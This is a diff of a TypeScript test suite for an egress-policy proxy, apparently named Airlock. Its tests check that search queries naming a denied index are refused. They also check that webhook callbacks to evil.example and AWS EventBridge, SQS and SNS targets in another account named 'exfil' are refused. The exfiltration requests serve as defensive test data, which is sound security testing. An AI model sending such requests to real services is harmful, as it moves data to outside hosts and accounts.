@@ -284,6 +284,8 @@ const esLookups = (v: unknown): void => {
   const o = v as Record<string, unknown>;
   if (typeof o._index === 'string') esRan.push(`lookup ${o._index}`);
   else if (typeof o.index === 'string' && o.id !== undefined) esRan.push(`lookup ${o.index}`);
+  // (A lookup runtime field reads the documents of its target index for every hit.)
+  if (o.type === 'lookup' && typeof o.target_index === 'string') esRan.push(`lookup ${o.target_index}`);
   for (const x of Object.values(o)) esLookups(x);
 };
 // JSON read as Go's encoding/json, ASP.NET Core, Newtonsoft and SCIM (RFC 7643 §2.1) match member
@@ -357,6 +359,52 @@ const dav = await startUpstream(t, {
       sentTo.push(String(o.destination ?? o.destinationArn ?? o.S3BucketName));
       return void res.writeHead(200, { 'content-length': 2 }).end('{}');
     }
+    // (Twenty-sixth pass: Solr searches the collections its `collection` parameter lists, and queries the cores `shards` names.)
+    // (Its SQL handler reads the collections FROM names; a streaming expression the first argument of each source and sink.)
+    const solrLang = /^\/solr\/[^/]+\/(sql|stream)$/.exec(src);
+    if (solrLang) {
+      const all = new URLSearchParams(`${new URL(req.url ?? '/', 'http://x').search.slice(1)}&${body.toString()}`);
+      const text = all.get(solrLang[1] === 'sql' ? 'stmt' : 'expr') ?? '';
+      for (const m of text.matchAll(solrLang[1] === 'sql' ? /\b(?:FROM|JOIN)\s+(\w+)/gi : /\b(?:search|update|facet|random)\(\s*(\w+)/g)) esRan.push(`solr-search ${m[1]}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    const solr = /^\/solr\/([^/]+)\/(?:select|query)$/.exec(src);
+    if (solr) {
+      const params = new URL(req.url ?? '/', 'http://x').searchParams;
+      const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded') ? new URLSearchParams(body.toString()) : undefined;
+      const json = String(req.headers['content-type']).startsWith('application/json') ? (JSON.parse(body.toString()) as { params?: Record<string, string> }).params ?? {} : {};
+      const collection = form?.get('collection') ?? params.get('collection') ?? json.collection ?? solr[1]!;
+      for (const c of collection.split(',')) esRan.push(`solr-search ${c}`);
+      for (const sh of (form?.get('shards') ?? params.get('shards') ?? json.shards ?? '').split(/[,|]/).filter(Boolean)) esRan.push(`solr-shard ${sh}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    // (Twenty-sixth pass: Amazon SQS acts on the queue its QueueUrl names, JSON or Query protocol, whatever the path.)
+    // (And SNS's Publish, to the topic its TopicArn names, in the form, the query or a JSON body.)
+    const snsForm = new URLSearchParams(`${new URL(req.url ?? '/', 'http://x').search.slice(1)}&${String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded') ? body.toString() : ''}`);
+    if (req.method === 'POST' && (snsForm.get('Action') === 'Publish' || String(req.headers['x-amz-target'] ?? '').endsWith('.Publish'))) {
+      const arn = snsForm.get('TopicArn') ?? snsForm.get('TargetArn') ?? (JSON.parse(body.toString() || '{}') as { TopicArn?: string }).TopicArn;
+      sentTo.push(`sns ${arn}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    if (req.method === 'POST' && (String(req.headers['x-amz-target'] ?? '').startsWith('AmazonSQS.') || /(?:^|&)Action=SendMessage/.test(body.toString()))) {
+      const o = String(req.headers['x-amz-target'] ?? '').startsWith('AmazonSQS.') ? JSON.parse(body.toString()) as { QueueUrl?: string } : { QueueUrl: new URLSearchParams(body.toString()).get('QueueUrl') ?? undefined };
+      sentTo.push(`sqs ${o.QueueUrl ?? src}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    // (Twenty-sixth pass: EventBridge's PutTargets, Scheduler's schedules and Pipes: every matching event sent to the ARNs named.)
+    if (req.method === 'POST' && amzTarget === 'PutEvents') {
+      for (const e of (JSON.parse(body.toString()) as { Entries: Array<{ EventBusName?: string }> }).Entries) sentTo.push(e.EventBusName ?? 'default');
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    if (req.method === 'POST' && amzTarget === 'PutTargets') {
+      for (const tg of (JSON.parse(body.toString()) as { Targets: Array<{ Arn: string; DeadLetterConfig?: { Arn: string } }> }).Targets) sentTo.push(tg.Arn, tg.DeadLetterConfig?.Arn ?? '');
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    if ((req.method === 'POST' || req.method === 'PUT') && /^\/(?:schedules|v1\/pipes)\/[^/]+$/.test(src)) {
+      const o = JSON.parse(body.toString()) as { Target?: string | { Arn: string; DeadLetterConfig?: { Arn: string } } };
+      sentTo.push(typeof o.Target === 'string' ? o.Target : o.Target?.Arn ?? '', typeof o.Target === 'object' ? o.Target.DeadLetterConfig?.Arn ?? '' : '');
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
     // (Twenty-fifth pass: an Azure diagnostic setting, the resource's logs sent to the resources it names from then on.)
     if (req.method === 'PUT' && /\/providers\/Microsoft\.Insights\/diagnosticSettings\/[^/]+$/i.test(src)) {
       const o = JSON.parse(body.toString()) as { properties?: Record<string, unknown> };
@@ -390,13 +438,13 @@ const dav = await startUpstream(t, {
     // (GitHub's `PATCH …/hooks/{id}/config` moves a hook; a job API takes its callback in the query; WebSub's hub.callback.)
     // (And OpenID Connect's dynamic client registration: the provider fetches `jwks_uri`, `sector_identifier_uri`
     // and `request_uris`, and posts logout tokens and CIBA notifications to the back-channel endpoints.)
-    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhooks\/|webhook_endpoints|webhook_subscriptions|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector|register|remote_mirrors|push_mirrors|integration|integrations)$/.test(src)) {
+    if ((req.method === 'POST' || req.method === 'PATCH') && /\/(?:hooks|webhooks\/|webhook_endpoints|webhook_subscriptions|validatingwebhookconfigurations|subscriptions|Messages\.json|config|jobs|hub|connector|register|remote_mirrors|push_mirrors|integration|integrations|applications|Call)$/.test(src)) {
       const form = String(req.headers['content-type']).startsWith('application/x-www-form-urlencoded');
       const walk = (v: unknown, key = ''): void => {
         // (A job API here calls back whatever URL it is given, under any name.)
         // (And, twenty-second pass: Pub/Sub's pushEndpoint, Twilio's SmsUrl and VoiceUrl, `callback_uri`, a REST hook's
         // target_url and Pipedrive's subscription_url, SNS's Endpoint.)
-        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback|jwks_uri|sector_identifier_uri|request_uris|backchannel_logout_uri|backchannel_client_notification_endpoint|pushendpoint|smsurl|voiceurl|callback_uri|target_url|subscription_url|endpoint|recordingstatuscallback|amdstatuscallback|inboundhookurl|bouncehookurl|prewebhookurl|target|uri|callbackurl|request_url|invocationendpoint|authorizationendpoint|tokenurl|token_endpoint|remote_address|integrationuri|status_url)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)) || (src.includes('/vonage/') && key === 'address'))) sentTo.push(v);
+        if (typeof v === 'string' && (/^(?:url|notificationurl|lifecyclenotificationurl|statuscallback|callback_url|hub\.callback|jwks_uri|sector_identifier_uri|request_uris|backchannel_logout_uri|backchannel_client_notification_endpoint|pushendpoint|smsurl|voiceurl|callback_uri|target_url|subscription_url|endpoint|recordingstatuscallback|amdstatuscallback|inboundhookurl|bouncehookurl|prewebhookurl|target|uri|callbackurl|request_url|invocationendpoint|authorizationendpoint|tokenurl|token_endpoint|remote_address|integrationuri|status_url)$/i.test(key) || (src.endsWith('/jobs') && /^https?:/.test(v)) || (/\/(?:applications|Call)$/.test(src) && /(?:_url|Url)$/.test(key)) || (src.includes('/vonage/') && key === 'address'))) sentTo.push(v);
         // (Sentry's webhooks plugin: `urls`, one URL a line.)
         if (typeof v === 'string' && key === 'urls') for (const u of v.split(/\r?\n/)) sentTo.push(u.trim());
         // (Under /slack/ a form field's JSON document is read, as Slack reads `manifest`.)
@@ -555,6 +603,40 @@ const dav = await startUpstream(t, {
     if (req.method === 'DELETE' && /^\/[^/]+,[^/]+$/.test(src)) {
       for (const i of src.slice(1).split(',')) esRan.push(`delete-index ${i}`);
       return void res.writeHead(200, { 'content-length': 2 }).end('ok');
+    }
+    // Meilisearch's multi-search and index swap, Typesense's multi_search and aliases (twenty-sixth
+    // pass): the indices a body names, as the servers read them (serde_json and nlohmann: last wins).
+    // (A Typesense preset stores searches that `?preset=<name>` runs later.)
+    if (/^\/presets\/[^/]+$/.test(src) && (req.method === 'PUT' || req.method === 'POST')) {
+      for (const m of body.toString().matchAll(/"collection":"(\w+)"|\$(\w+)\(/g)) esRan.push(`typesense-preset ${m[1] ?? m[2]}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    const engine = /^(?:\/ok)?\/(multi-search|multi_search|swap-indexes|aliases\/[^/]+?)\/*$/.exec(src);
+    if (engine && ['POST', 'PUT'].includes(req.method ?? '')) {
+      const o = JSON.parse(body.toString() || '{}') as { queries?: Array<{ indexUid: string }>; searches?: Array<{ collection?: string }>; collection_name?: string } & Array<{ indexes: string[] }>;
+      const common = new URL(req.url ?? '/', 'http://x').searchParams.get('collection');
+      if (engine[1] === 'multi-search') for (const q of o.queries ?? []) esRan.push(`meili-search ${q.indexUid}`);
+      else if (engine[1] === 'multi_search') {
+        for (const q of o.searches ?? []) {
+          esRan.push(`typesense-search ${q.collection ?? common}`);
+          for (const m of JSON.stringify(q).matchAll(/\$(\w+)\(/g)) esRan.push(`typesense-join ${m[1]}`);
+        }
+      }
+      else if (engine[1] === 'swap-indexes') for (const sw of o) for (const i of sw.indexes) esRan.push(`meili-swap ${i}`);
+      else esRan.push(`typesense-alias ${o.collection_name}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    // (Typesense's search joins the collections `$name(…)` names in filter_by, include_fields, sort_by.)
+    const tsSearch = /^\/collections\/([^/]+)\/documents\/search\/*$/.exec(src);
+    if (tsSearch && req.method === 'GET') {
+      esRan.push(`typesense-search ${tsSearch[1]}`);
+      for (const [k, v] of new URL(req.url ?? '/', 'http://x').searchParams) if (['filter_by', 'include_fields', 'sort_by'].includes(k)) for (const m of v.matchAll(/\$(\w+)\(/g)) esRan.push(`typesense-join ${m[1]}`);
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
+    }
+    // (A mapping's lookup runtime fields are run by every later search of the index.)
+    if ((/^\/[^/_][^/]*\/_mappings?$/.test(src) || /^\/ok3$/.test(src)) && (req.method === 'PUT' || req.method === 'POST')) {
+      esLookups(JSON.parse(body.toString()));
+      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
     }
     // Elasticsearch splits the path as Java's split("/") does: trailing empty segments dropped.
     const es = /^(?:\/([^/]+))?\/(_bulk|_msearch|_mget|_mtermvectors|_reindex|_aliases|_msearch\/template|_search|_count)\/*$/.exec(src);
@@ -1256,6 +1338,112 @@ t.test('property: an Elasticsearch _bulk, _msearch, _mget or _reindex body namin
     },
   ), { numRuns: Math.min(numRuns, 12), ...seed });
   t.notOk(esRan.some((r) => r.endsWith(' deny')), 'the server never acted on the denied index');
+});
+
+t.test('property (twenty-sixth pass): a Meilisearch multi-search or index swap, a Typesense multi_search or alias, a Solr search\'s collection or shards parameter naming another index is decided for that index', async (t) => {
+  // `POST /ok/multi-search` names no index in its path: its `queries[].indexUid` read `deny`,
+  // which the policy refuses as `/indexes/deny/search` (Typesense: `searches[].collection`, or
+  // the query's common `collection`; a swap writes both indices; an alias has later searches read
+  // the collection it names).
+  const dHost = `allowed.example:${dav.port}`;
+  const send = (method: string, path: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
+    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
+    return tunnel
+      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
+        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
+      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
+  };
+  const controls: Array<[string, string, string]> = [
+    ['POST', '/multi-search', JSON.stringify({ queries: [{ indexUid: 'movies', q: 'x' }, { indexUid: 'books', q: 'deny' }] })],
+    ['POST', '/multi_search?collection=books', JSON.stringify({ searches: [{ collection: 'movies', q: '*' }, { q: 'deny' }] })],
+    ['POST', '/swap-indexes', JSON.stringify([{ indexes: ['movies', 'movies_new'] }])],
+    ['PUT', '/aliases/products', JSON.stringify({ collection_name: 'products_v2' })],
+  ];
+  for (const [method, path, body] of controls) {
+    t.match((await send(method, path, body, false)).text, /^HTTP\/1\.1 200/, `control: ${method} ${path} naming allowed indices goes through`);
+  }
+  await fc.assert(fc.asyncProperty(
+    fc.record({
+      shape: fc.constantFrom('meili', 'meili federated', 'typesense', 'typesense common', 'swap', 'alias'),
+      position: fc.nat({ max: 2 }),
+      spelling: fc.constantFrom('', '/', 'escaped'),
+      dup: fc.boolean(),
+      tunnel: fc.boolean(),
+    }),
+    async ({ shape, position, spelling, dup, tunnel }) => {
+      const before = esRan.length;
+      const names = ['movies', 'books'];
+      names.splice(position, 0, 'deny');
+      let method = 'POST';
+      let path: string;
+      let body: string;
+      const member = (k: string, v: string): string => (dup ? `"${k}":"movies","${k}":${JSON.stringify(v)}` : `"${k}":${JSON.stringify(v)}`);
+      if (shape.startsWith('meili')) (path = '/multi-search', body = `{${shape.endsWith('federated') ? '"federation":{},' : ''}"queries":[${names.map((n) => `{${member('indexUid', n)},"q":"x"}`).join(',')}]}`);
+      else if (shape === 'typesense') (path = '/multi_search', body = `{"searches":[${names.map((n) => `{${member('collection', n)},"q":"*"}`).join(',')}]}`);
+      else if (shape === 'typesense common') (path = '/multi_search?collection=deny', body = '{"searches":[{"q":"*"}]}');
+      else if (shape === 'swap') (path = '/swap-indexes', body = JSON.stringify([{ indexes: position ? ['movies', 'deny'] : ['deny', 'movies'] }]));
+      else (method = 'PUT', path = '/aliases/products', body = `{${member('collection_name', 'deny')}}`);
+      // (The endpoint as its server routes it too: a trailing slash, an escaped letter.)
+      if (spelling === 'escaped') path = path.replace(/s(?=[^/]*$)|s(?=[^/]*\/products)/, '%73');
+      else if (spelling) path = path.replace(/(?=\?|$)/, spelling);
+      const [res] = parseResponses((await send(method, path, body, tunnel)).text);
+      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !esRan.slice(before).some((r) => r.endsWith(' deny'));
+    },
+  ), { numRuns: Math.min(numRuns, 24), ...seed });
+  // (Solr: the `collection` and `shards` parameters, in the query, a form body or a JSON request's params.)
+  const solrSend = (path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
+    const head = `${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
+    const method = body ? 'POST' : 'GET';
+    return tunnel
+      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
+        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
+      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
+  };
+  t.match((await solrSend('/collections/products/documents/search?q=*&filter_by=%24customers(id:=1)&include_fields=$customers(*)', '', '', false)).text, /^HTTP\/1\.1 200/, 'control: a Typesense search joining an allowed collection goes through');
+  for (const [i, [path, body]] of ([
+    ['/collections/products/documents/search?q=*&filter_by=$deny(id:*)', ''],
+    ['/collections/products/documents/search?q=*&include_fields=%24deny(*)', ''],
+    ['/collections/products/documents/search?q=*&sort_by=$deny( score:desc)', ''],
+    ['/multi_search', JSON.stringify({ searches: [{ collection: 'products', q: '*', filter_by: '$deny(id:*)' }] })],
+    ['/presets/everything', JSON.stringify({ value: { searches: [{ collection: 'products', q: '*' }, { collection: 'deny', q: '*' }] } })],
+    ['/presets/one', JSON.stringify({ value: { collection: 'products', q: '*', include_fields: '$deny(*)' } })],
+  ] as const).entries()) {
+    const before = esRan.length;
+    const [res] = parseResponses((await solrSend(path.replace(/ /g, '%20'), body ? 'application/json' : '', body, i % 2 === 1)).text);
+    t.ok(res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => /deny$/.test(r)), `twenty-sixth pass: a Typesense search joining the denied collection (${path.slice(0, 70)}): 403 (${res?.status})`);
+  }
+  // (Elasticsearch's lookup runtime fields: in a search's runtime_mappings, in an index's mapping.)
+  const lookupField = (target: string): Record<string, unknown> => ({ type: 'lookup', target_index: target, input_field: 'user_id', target_field: 'id', fetch_fields: ['email'] });
+  t.match((await solrSend('/ok/_search', 'application/json', JSON.stringify({ runtime_mappings: { who: lookupField('ok2') }, fields: ['who'] }), false)).text, /^HTTP\/1\.1 200/, 'control: a lookup runtime field reading an allowed index goes through');
+  for (const [i, [path, body]] of ([
+    ['/ok/_search', JSON.stringify({ runtime_mappings: { who: lookupField('deny') }, fields: ['who'] })],
+    ['/ok/_search', JSON.stringify({ runtime_mappings: { who: lookupField('ok2,deny') }, fields: ['who'] })],
+    ['/ok/_mapping', JSON.stringify({ runtime: { who: lookupField('deny') } })],
+    ['/ok3', JSON.stringify({ mappings: { runtime: { who: lookupField('deny') } } })],
+  ] as const).entries()) {
+    const before = esRan.length;
+    const [res] = parseResponses((await solrSend(path, 'application/json', body, i % 2 === 1)).text);
+    t.ok(res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => /deny$/.test(r)), `twenty-sixth pass: an Elasticsearch lookup runtime field reading the denied index (${path}): 403 (${res?.status})`);
+  }
+  t.match((await solrSend('/solr/public/select?q=*:*&collection=public,news', '', '', false)).text, /^HTTP\/1\.1 200/, 'control: a Solr search of allowed collections goes through');
+  t.match((await solrSend(`/solr/public/stream?expr=${encodeURIComponent('search(public, q="*:*", fl="id", sort="id asc")')}`, '', '', false)).text, /^HTTP\/1\.1 200/, 'control: a Solr streaming expression over an allowed collection goes through');
+  t.match((await solrSend(`/solr/public/sql?stmt=${encodeURIComponent('SELECT id FROM public WHERE q = \'deny\'')}`, '', '', false)).text, /^HTTP\/1\.1 200/, 'control: Solr SQL over an allowed collection goes through');
+  for (const [i, [path, type, body]] of ([
+    ['/solr/public/select?q=*:*&collection=deny', '', ''],
+    ['/solr/public/select?q=*:*&collection=public,deny', '', ''],
+    ['/solr/public/select', 'application/x-www-form-urlencoded', 'q=*:*&collection=deny'],
+    ['/solr/public/query', 'application/json', JSON.stringify({ query: '*:*', params: { collection: 'deny' } })],
+    [`/solr/public/select?q=*:*&shards=${encodeURIComponent(`${dHost}/solr/public|${dHost}/solr/deny`)}`, '', ''],
+    [`/solr/public/sql?stmt=${encodeURIComponent('SELECT id FROM public JOIN deny ON public.id = deny.id')}`, '', ''],
+    ['/solr/public/sql', 'application/x-www-form-urlencoded', `stmt=${encodeURIComponent('SELECT email FROM deny')}`],
+    [`/solr/public/stream?expr=${encodeURIComponent('search(deny, q="*:*", fl="email", sort="id asc")')}`, '', ''],
+    ['/solr/public/stream', 'application/x-www-form-urlencoded', `expr=${encodeURIComponent('update(deny, batchSize=50, search(public, q="*:*", fl="id", sort="id asc"))')}`],
+  ] as const).entries()) {
+    const before = esRan.length;
+    const [res] = parseResponses((await solrSend(path, type, body, i % 2 === 1)).text);
+    t.ok(res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => /deny$/.test(r)), `twenty-sixth pass: a Solr search naming the denied collection (${path.slice(0, 60)} ${body.slice(0, 40)}): 403 (${res?.status})`);
+  }
+  t.notOk(esRan.some((r) => r.endsWith(' deny')), 'the servers never read or swapped the denied index');
 });
 
 t.test('a request naming more indices, keys or sources than Airlock decides is refused, not decided by its first ones', async (t) => {
@@ -3190,6 +3378,13 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
     'Postmark BounceHookUrl, large': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify({ ...(large ? { pad } : {}), Name: 'main', BounceHookUrl: url })],
     'Conversations PreWebhookUrl': (url) => ['/ok/subscriptions', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="PreWebhookUrl"\r\n\r\n${url}\r\n--mb--\r\n`],
     'Asana webhook target': (url) => ['/ok/hooks', 'application/json', JSON.stringify({ data: { resource: '1200', target: url } })],
+    // Twenty-sixth pass: names no list held, off a hooks endpoint (Vonage's application `status_url` and
+    // `inbound_url`, Plivo's call `hangup_url`, an SMS gateway's `dlr_url`, `delivery_report_url` past the cap).
+    'Vonage status_url': (url) => ['/ok/v2/applications', 'application/json', JSON.stringify({ name: 'app', status_url: url })],
+    'Vonage inbound_url': (url) => ['/ok/v2/applications', 'application/json', JSON.stringify({ name: 'app', messages: { inbound_url: url } })],
+    'Plivo hangup_url': (url) => ['/ok/v1/Account/MA1/Call', 'application/x-www-form-urlencoded', `from=1555&to=1556&answer_url=https%3A%2F%2Fallowed.example%2Fa&hangup_url=${encodeURIComponent(url)}`],
+    'SMS dlr_url': (url) => ['/ok/v2/applications', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="dlr_url"\r\n\r\n${url}\r\n--mb--\r\n`],
+    'delivery_report_url, large': (url, _o, large) => ['/ok/v2/applications', 'application/json', JSON.stringify({ ...(large ? { pad } : {}), deliveryReportUrl: url })],
     // Twenty-fourth pass: a URL inside a route's expression (Mailgun's `forward("…")`, `store(notify="…")`),
     // the holder a GraphQL API names (Shopify's `webhookSubscription: {uri}`), in a GraphQL literal, a hook
     // endpoint named otherwise (PagerDuty's `/webhook_subscriptions`, `delivery_method.url`).
@@ -3305,6 +3500,20 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
       t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status})`);
     }
   }
+  // Twenty-sixth pass: a callback under a name no list held, off a hooks endpoint; controls: URL fields the service only shows or fetches.
+  for (const [i, name] of ['Vonage status_url', 'Vonage inbound_url', 'Plivo hangup_url', 'SMS dlr_url', 'delivery_report_url, large'].entries()) {
+    for (const large of name.endsWith('large') ? [false, true] : [false]) {
+      const before = sentTo.length;
+      const [path, type, body] = shapes[name]!('https://evil.example/cb', allowed, large);
+      const [res] = parseResponses((await send(path, type, body, i % 2 === 0)).text);
+      t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => v.includes('evil.example')), `twenty-sixth pass: ${name}${large ? ' past the capture cap' : ''} naming another host: decided (${res?.status})`);
+    }
+  }
+  {
+    const text = JSON.stringify({ name: 'app', avatar_url: 'https://evil.example/a.png', shipping_url: 'https://evil.example/s', monitoring_uri: 'https://evil.example/m', receipt_url: 'https://evil.example/r' });
+    const [res] = parseResponses((await send('/ok/v2/profiles', 'application/json', text, false)).text);
+    t.ok(res !== undefined && !isProblem(res), `control: URL members no service sends to (avatar_url, shipping_url, monitoring_uri, receipt_url) go through (${res?.status})`);
+  }
   // Twenty-fourth pass: a URL in an expression, a GraphQL API's holder or literal, a hook endpoint named otherwise.
   for (const [i, name] of ['Mailgun route forward', 'Mailgun route forward, unescaped', 'Mailgun route store notify', 'Shopify webhookSubscription uri', 'GraphQL literal callbackUrl', 'GraphQL hook field, variables', 'Sentry webhooks plugin urls', 'PagerDuty delivery_method', 'Slack manifest event request_url', 'Slack manifest in a form field', 'Slack slash command url', 'JSON in a form field', 'JSON in a form field, unescaped', 'nested form webhook[url], unescaped', 'Rack part named by its Content-ID'].entries()) {
     for (const large of name === 'Mailgun route forward' ? [false, true] : [false]) {
@@ -3363,6 +3572,59 @@ t.test('property: a callback named as its server reads the name (PHP\'s `callbac
     const head = `Content-Type: application/x-amz-json-1.1\r\nX-Amz-Target: ${action}\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
     const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
     t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(named), `twenty-fifth pass: ${action.split('.').pop()} into ${named}: decided (${res?.status}) #${i}`);
+  }
+  // (Twenty-sixth pass: EventBridge targets in another account: its bus, queue, function, a dead-letter queue; Scheduler and Pipes.)
+  for (const [i, [how, path, payload, named]] of ([
+    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:events:us-east-1:999999999999:event-bus/default', RoleArn: 'arn:aws:iam::111111111111:role/r' }] }, 'arn:aws:events:us-east-1:999999999999:event-bus/default'],
+    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:logs:us-east-1:111111111111:log-group:/ok' }, { Id: '2', Arn: 'arn:aws:sqs:us-east-1:999999999999:exfil' }] }, 'arn:aws:sqs:us-east-1:999999999999:exfil'],
+    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:lambda:us-east-1:999999999999:function:exfil' }] }, 'arn:aws:lambda:us-east-1:999999999999:function:exfil'],
+    ['AWSEvents.PutTargets', '/', { Rule: 'all', Targets: [{ Id: '1', Arn: 'arn:aws:states:us-east-1:999999999999:stateMachine:x', DeadLetterConfig: { Arn: 'arn:aws:sqs:us-east-1:999999999999:dlq' } }] }, 'arn:aws:sqs:us-east-1:999999999999:dlq'],
+    ['', '/schedules/nightly', { ScheduleExpression: 'rate(1 day)', FlexibleTimeWindow: { Mode: 'OFF' }, Target: { Arn: 'arn:aws:sqs:us-east-1:999999999999:exfil', RoleArn: 'arn:aws:iam::111111111111:role/r' } }, 'arn:aws:sqs:us-east-1:999999999999:exfil'],
+    ['', '/v1/pipes/p', { Source: 'arn:aws:sqs:us-east-1:111111111111:in', Target: 'arn:aws:events:us-east-1:999999999999:event-bus/default', RoleArn: 'arn:aws:iam::111111111111:role/r' }, 'arn:aws:events:us-east-1:999999999999:event-bus/default'],
+    ['AWSEvents.PutEvents', '/', { Entries: [{ Source: 'app', DetailType: 'x', Detail: '{}' }, { Source: 'app', DetailType: 'x', Detail: '{"data":1}', EventBusName: 'arn:aws:events:us-east-1:999999999999:event-bus/exfil' }] }, 'arn:aws:events:us-east-1:999999999999:event-bus/exfil'],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const text = JSON.stringify(payload);
+    const head = `Content-Type: application/x-amz-json-1.1\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`${i === 4 ? 'PUT' : 'POST'} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).includes(named), `twenty-sixth pass: ${how || path} sending events to ${named}: decided (${res?.status}) #${i}`);
+  }
+  // (Twenty-sixth pass: an SQS message sent under the agent's own queue's path to the queue its QueueUrl names: JSON, a form, the query.)
+  for (const [i, [how, type, path, text]] of ([
+    ['AmazonSQS.SendMessage', 'application/x-amz-json-1.0', '/111111111111/own', JSON.stringify({ QueueUrl: 'https://sqs.us-east-1.amazonaws.com/999999999999/exfil', MessageBody: 'data' })],
+    ['AmazonSQS.SendMessage', 'application/x-amz-json-1.0', '/111111111111/own', `{"QueueUrl": "http://${dHost}/111111111111/own", "MessageBody": "data", "QueueUrl": "https://sqs.us-east-1.amazonaws.com/999999999999/exfil"}`],
+    ['', 'application/x-www-form-urlencoded', '/111111111111/own', `Action=SendMessage&MessageBody=data&QueueUrl=${encodeURIComponent('https://sqs.us-east-1.amazonaws.com/999999999999/exfil')}`],
+    ['', 'application/x-www-form-urlencoded', `/?QueueUrl=${encodeURIComponent(`http://${dHost}/deny/q`)}`, 'Action=SendMessage&MessageBody=data'],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const head = `Content-Type: ${type}\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
+    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => /exfil|deny/.test(v)), `twenty-sixth pass: an SQS message whose QueueUrl names another queue than the path's: decided (${res?.status}) #${i}`);
+  }
+  for (const [i, [how, type, path, text]] of ([
+    ['', 'application/x-www-form-urlencoded', '/', `Action=Publish&Message=data&TopicArn=${encodeURIComponent('arn:aws:sns:us-east-1:999999999999:exfil')}`],
+    ['', 'application/x-www-form-urlencoded', `/?Action=Publish&TargetArn=${encodeURIComponent('arn:aws:sns:us-east-1:999999999999:exfil')}`, 'Message=data'],
+    ['AmazonSimpleNotificationService.Publish', 'application/x-amz-json-1.0', '/', JSON.stringify({ TopicArn: 'arn:aws:sns:us-east-1:999999999999:exfil', Message: 'data' })],
+  ] as const).entries()) {
+    const before = sentTo.length;
+    const head = `Content-Type: ${type}\r\n${how ? `X-Amz-Target: ${how}\r\n` : ''}Content-Length: ${Buffer.byteLength(text)}\r\n\r\n`;
+    const [res] = parseResponses((await rawToProxy(a.port, [`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, text], { responses: 1 })).text);
